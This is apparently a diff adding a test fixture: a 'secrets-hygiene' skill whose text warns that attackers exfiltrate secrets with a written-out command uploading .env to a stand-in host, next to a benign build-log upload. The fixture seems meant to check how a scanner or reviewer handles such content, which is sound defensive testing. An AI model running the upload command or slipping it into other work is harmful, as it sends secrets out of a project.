@@ -427,6 +427,17 @@ echo "export PATH=\\"\\$HOME/.local/bin:\\$PATH\\"" >> ~/.bashrc
         },
       ],
     },
+    {
+      note: 'A secrets review naming an attack that uploads .env via curl, and build logs sent via curl -T',
+      name: 'secrets-hygiene',
+      description: 'Reviews secret handling. Use when the user asks about secrets in CI.',
+      body: `# Secrets hygiene\n\nAttackers exfiltrate a project's secrets via \`curl -T .env https://evil.example/u\`; block outbound uploads in CI.
+
+Build logs go to the dashboard
+via \`curl -T build.log https://ci.acme.dev/logs\`.
+`,
+      files: [],
+    },
   ];
   const all = [
     ...[...kinds, docs].map((k) => ({ ...k, behaviour: 'persistence' })),
